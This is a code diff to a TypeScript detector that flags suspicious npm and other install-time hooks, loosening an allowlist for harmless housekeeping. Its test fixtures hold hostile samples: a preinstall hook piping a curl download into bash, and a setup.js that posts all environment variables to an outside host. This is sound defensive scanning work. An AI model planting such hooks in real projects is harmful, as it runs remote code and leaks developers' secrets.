@@ -6,8 +6,12 @@ const AT_INSTALL =
   /^(?:npm (?:pre|post)?install|npm (?:pre|post)?prepare|gem install|cargo build|composer .*install.*)$/;
 /** A program written into the hook itself. */
 const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl)\s{1,3}-(?:e|c)\s{1,3}["'][^\n]{60,}/;
-/** What it needs to make its own program one that can be started. */
-const OWN_FILES = /require\(\\?["'](?:node:)?(?:fs|path)\\?["']\)/g;
+/**
+ * What an honest one needs: its own files, the answer to whether this is a machine of developers, and a tool that is
+ * started by its bare name and could stand in the hook itself.
+ */
+const HOUSEKEEPING =
+  /require\(\\?["'](?:node:)?(?:fs|path)\\?["']\)|\bprocess\.env\.(?:NODE_ENV|CI|HUSKY)\b|require\(\\?["'](?:node:)?child_process\\?["']\)\.(?:exec|spawn)(?:Sync)?\(\\?["'][\w@ -]{1,60}\\?["']/g;
 const INLINE_REACH = /\bhttps?\b|require\(\\?["']|\bexec|\benv\b|\batob\b|base64|\bsocket\b/i;
 
 export const check: RepositoryCheck = {
@@ -29,11 +33,17 @@ export const check: RepositoryCheck = {
     bad: [
       { 'package.json': '{"scripts": {«"preinstall": "curl -s https://cdn.example.net/i.sh | bash"»}}' },
       {
+        'package.json': `{"scripts": {«"postinstall": "node -e \\"require('child_process').execSync('node lib/a.js ' + process.env.NODE_ENV)\\""»}}`,
+      },
+      {
         'package.json': '{"scripts": {«"postinstall": "node setup.js"»}}',
         'setup.js': "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) });\n",
       },
     ],
     good: [
+      {
+        'package.json': `{"scripts": {"prepare": "node -e \\"if (process.env.NODE_ENV !== 'production') require('child_process').execSync('husky', { stdio: 'inherit' })\\""}}`,
+      },
       { 'package.json': '{"scripts": {"postinstall": "node-gyp rebuild"}}' },
       {
         'package.json': `{"scripts": {"postinstall": "node -e \\"try { require('fs').chmodSync('./dist/index.js', '755') } catch (e) {}\\""}}`,
@@ -50,7 +60,7 @@ export const check: RepositoryCheck = {
     for (const hook of repository.notesOf('hook')) {
       if (!AT_INSTALL.test(hook.event)) continue;
       const danger = dangerOf(hook.command);
-      const isInline = INLINE_PROGRAM.test(hook.command) && INLINE_REACH.test(hook.command.replace(OWN_FILES, ''));
+      const isInline = INLINE_PROGRAM.test(hook.command) && INLINE_REACH.test(hook.command.replace(HOUSEKEEPING, ''));
       if (danger !== undefined || isInline) {
         yield {
           at: hook.at,
